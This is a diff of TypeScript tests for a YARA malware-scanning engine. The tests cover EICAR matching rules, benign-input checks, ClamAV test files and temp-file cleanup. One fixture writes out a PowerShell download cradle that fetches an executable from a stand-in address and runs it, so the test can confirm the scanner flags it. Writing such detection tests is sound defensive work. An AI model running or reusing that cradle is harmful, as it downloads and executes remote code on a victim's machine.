@@ -1,66 +1,66 @@
-import t from 'tap'
+import tap from 'tap'
 import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { createYaraEngine } from '../../src/scan/yara-engine.ts'
 import { CLAMAV_TESTFILES, PROJECT_RULES, REVERSINGLABS_RULES, eicar, input, noClamavTestfiles, noYara, silentLogger } from './yara-helpers.ts'
 
-t.test('project rules', { skip: noYara }, async t => {
+tap.test('project rules', { skip: noYara }, async t => {
   const tmpDir = t.testdir({})
   const engine = createYaraEngine({ rulesDirs: [PROJECT_RULES], timeoutMs: 30_000, tmpDir, logger: silentLogger })
   await engine.start()
   t.teardown(async () => { await engine.stop() })
 
-  t.test('identity', async t => {
-    t.equal(engine.name, 'YARA')
-    t.match(engine.version, /^\d+\.\d+\.\d+/)
-    t.match(engine.signatureDate, /^20\d{6}$/)
-    t.same(engine.kinds, ['file'])
-    t.equal(engine.ruleStats?.skippedFiles.length, 0)
-    t.ok((engine.ruleStats?.rules ?? 0) >= 8)
+  t.test('identity', async st => {
+    st.equal(engine.name, 'YARA')
+    st.match(engine.version, /^\d+\.\d+\.\d+/)
+    st.match(engine.signatureDate, /^20\d{6}$/)
+    st.same(engine.kinds, ['file'])
+    st.equal(engine.ruleStats?.skippedFiles.length, 0)
+    st.ok((engine.ruleStats?.rules ?? 0) >= 8)
   })
 
-  t.test('EICAR: exact string, trailing whitespace allowed, nothing else', async t => {
+  t.test('EICAR: exact string, trailing whitespace allowed, nothing else', async st => {
     const hit = await engine.scan(input(eicar()))
-    t.same(hit, { engine: 'YARA', engineVersion: engine.version, engineUpdate: engine.signatureDate, category: 'malicious', result: 'EICAR_Test_File', method: 'blacklist' })
-    t.equal((await engine.scan(input(eicar() + ' \t\r\n\x1a'))).result, 'EICAR_Test_File', 'standard trailing whitespace')
-    t.equal((await engine.scan(input(eicar() + ' '.repeat(60)))).category, 'malicious', '128 bytes in all')
-    t.equal((await engine.scan(input(eicar() + ' '.repeat(61)))).category, 'undetected', '129 bytes is over the limit')
-    t.equal((await engine.scan(input(eicar() + 'abc'))).category, 'undetected', 'trailing non-whitespace')
-    t.equal((await engine.scan(input('X' + eicar()))).category, 'undetected', 'not at offset 0')
-    t.equal((await engine.scan(input(eicar().slice(0, 67)))).category, 'undetected', 'one byte short')
+    st.same(hit, { engine: 'YARA', engineVersion: engine.version, engineUpdate: engine.signatureDate, category: 'malicious', result: 'EICAR_Test_File', method: 'blacklist' })
+    st.equal((await engine.scan(input(eicar() + ' \t\r\n\x1a'))).result, 'EICAR_Test_File', 'standard trailing whitespace')
+    st.equal((await engine.scan(input(eicar() + ' '.repeat(60)))).category, 'malicious', '128 bytes in all')
+    st.equal((await engine.scan(input(eicar() + ' '.repeat(61)))).category, 'undetected', '129 bytes is over the limit')
+    st.equal((await engine.scan(input(eicar() + 'abc'))).category, 'undetected', 'trailing non-whitespace')
+    st.equal((await engine.scan(input('X' + eicar()))).category, 'undetected', 'not at offset 0')
+    st.equal((await engine.scan(input(eicar().slice(0, 67)))).category, 'undetected', 'one byte short')
   })
 
-  t.test('benign bytes are undetected', async t => {
+  t.test('benign bytes are undetected', async st => {
     for (const bytes of [new Uint8Array(), Buffer.from('hello world\n'), readFileSync('/bin/ls'), new Uint8Array(1 << 20)]) {
       const r = await engine.scan(input(bytes))
-      t.equal(r.category, 'undetected')
-      t.equal(r.result, '')
+      st.equal(r.category, 'undetected')
+      st.equal(r.result, '')
     }
   })
 
-  t.test('PowerShell download cradle is suspicious', async t => {
+  t.test('PowerShell download cradle is suspicious', async st => {
     const script = 'powershell -nop -c "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.9/a.exe\',\'a.exe\'); Start-Process a.exe"\r\n'
-    t.same(await engine.scan(input(script)), { ...await engine.scan(input('')), category: 'suspicious', result: 'PowerShell_Download_Execute_Cradle' })
-    t.equal((await engine.scan(input('powershell Get-ChildItem\n'))).category, 'undetected', 'PowerShell alone is fine')
+    st.same(await engine.scan(input(script)), { ...await engine.scan(input('')), category: 'suspicious', result: 'PowerShell_Download_Execute_Cradle' })
+    st.equal((await engine.scan(input('powershell Get-ChildItem\n'))).category, 'undetected', 'PowerShell alone is fine')
   })
 
-  t.test('every ClamAV test file is detected', { skip: noClamavTestfiles }, async t => {
-    const files = readdirSync(CLAMAV_TESTFILES).sort()
-    t.ok(files.length >= 40, `${files.length} test files`)
+  t.test('every ClamAV test file is detected', { skip: noClamavTestfiles }, async st => {
+    const files = readdirSync(CLAMAV_TESTFILES).toSorted()
+    st.ok(files.length >= 40, `${files.length} test files`)
     for (const name of files) {
       const r = await engine.scan(input(readFileSync(join(CLAMAV_TESTFILES, name))))
-      t.equal(r.category, 'malicious', name)
-      t.match(r.result, /^ClamAV_TestFile_/, `${name} -> ${r.result}`)
+      st.equal(r.category, 'malicious', name)
+      st.match(r.result, /^ClamAV_TestFile_/, `${name} -> ${r.result}`)
     }
   })
 
-  t.test('sample temp files are always removed', async t => {
+  t.test('sample temp files are always removed', async st => {
     await engine.scan(input(eicar()))
-    t.same(readdirSync(tmpDir).filter(f => f.startsWith('sample-')), [])
+    st.same(readdirSync(tmpDir).filter(f => f.startsWith('sample-')), [])
   })
 })
 
-t.test('the ReversingLabs pack loads next to the project rules', { skip: noYara }, async t => {
+tap.test('the ReversingLabs pack loads next to the project rules', { skip: noYara }, async t => {
   const engine = createYaraEngine({ rulesDirs: [PROJECT_RULES, REVERSINGLABS_RULES], timeoutMs: 30_000, tmpDir: t.testdir({}), logger: silentLogger })
   await engine.start()
   t.teardown(async () => { await engine.stop() })
